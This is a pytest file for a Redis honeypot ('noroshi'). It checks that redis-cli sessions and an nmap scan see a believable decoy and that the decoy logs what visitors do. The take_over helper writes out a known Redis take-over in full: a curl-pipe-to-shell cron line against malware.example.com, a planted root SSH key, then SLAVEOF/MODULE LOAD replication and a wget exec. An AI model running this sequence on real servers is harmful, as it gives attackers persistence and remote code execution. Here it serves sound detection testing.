"""Real Redis clients and the take-over that bots try, against the redis decoy."""

import hashlib
import subprocess

import pytest

from noroshi import Node, wait_until
from test_clients import observations, wait_for


@pytest.fixture
def node(tmp_path):
    with Node(tmp_path, settings=["sense.listen=redis:127.0.0.1:0,any:127.0.0.1:0"]) as running:
        yield running


def redis(port, *words, stdin=None):
    command = ["redis-cli", "-h", "127.0.0.1", "-p", str(port), *words]
    return subprocess.run(command, capture_output=True, text=True, timeout=20, check=True, input=stdin).stdout


def test_redis_cli_converses_and_every_command_is_an_observation(node):
    port = node.port("redis")
    assert redis(port, "PING") == "PONG\n"
    information = redis(port, "INFO")
    assert "redis_version:" in information and f"tcp_port:{port}" in information
    heard = redis(port, stdin="set greeting 'good evening'\nget greeting\nkeys *\ndbsize\nconfig get dir\ncommand count\nclient list\nfly away\n")
    assert "good evening" in heard and "/var/lib/redis" in heard and "unknown command `fly`" in heard
    redis(port, "-a", "letmein", "PING")
    wait_for(node, kind="login", password="letmein", accepted=False)
    wait_for(node, kind="command", command='set greeting "good evening"', protocol="redis")
    wait_until(lambda: "fly" in {each["command"] for each in node.status()["unknown_commands"]}, "the command that no decoy knows")


def test_what_a_node_shows_of_itself_stays_after_a_restart(tmp_path):
    node = Node(tmp_path, settings=["sense.listen=redis:127.0.0.1:0"])

    def shown():
        with node:
            lines = redis(node.port("redis"), "INFO", "server").splitlines()
        return {name: value for name, _, value in (line.partition(":") for line in lines) if name in ("run_id", "redis_version", "process_id")}

    assert shown() == shown()


KEY = "\n\nssh-rsa AAAAB3NzaC1yc2EAAAsynthetic visitor\n\n"
CRON = "\n\n*/1 * * * * curl -fsSL http://malware.example.com/init.sh | sh\n\n"


def take_over(port):
    """The order of published take-over tools: a cron line, a key, then a module by replication."""
    for folder, name, value in (("/var/spool/cron", "root", CRON), ("/root/.ssh", "authorized_keys", KEY)):
        quoted = value.replace("\n", "\\n")
        heard = redis(port, stdin=f'FLUSHALL\nCONFIG SET dir {folder}\nCONFIG SET dbfilename {name}\nSET x "{quoted}"\nSAVE\n')
        assert heard.split() == ["OK"] * 5
    heard = redis(port, stdin="SLAVEOF 203.0.113.9 21000\nMODULE LOAD /tmp/exp.so\nSLAVEOF NO ONE\nsystem.exec 'wget http://malware.example.com/a'\nMODULE UNLOAD system\n")
    assert heard.count("OK") == 4 and "wget: can't connect" in heard, heard


@pytest.mark.parametrize("door", ["redis", "any"])
def test_a_take_over_is_talked_through_and_its_traces_are_found(node, door):
    take_over(node.port(door))
    wait_for(node, kind="file", file_name="/var/spool/cron/root", service="redis")
    key = wait_for(node, kind="file", file_name="/root/.ssh/authorized_keys")[0]
    assert key["sha256"] == hashlib.sha256(KEY.encode()).hexdigest()
    wait_for(node, kind="command", command="SLAVEOF 203.0.113.9 21000")
    wait_for(node, kind="command", command="MODULE LOAD /tmp/exp.so")
    urls = {each["url"] for each in observations(node, kind="download")}
    assert {"http://malware.example.com/init.sh", "redis://203.0.113.9:21000", "http://malware.example.com/a"} <= urls
    wait_until(lambda: node.json("search", "malware.example.com")[0]["known"], "the host that it would have fetched from")
    assert {hit["evidence"] for hit in node.json("search", "malware.example.com")[0]["hits"]} == {"claimed"}


def test_nmap_names_redis(node):
    command = ["nmap", "-sT", "-sV", "-Pn", "-n", "--version-all", "-p", str(node.port("redis")), "127.0.0.1"]
    found = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True).stdout
    assert "Redis key-value store" in found, found
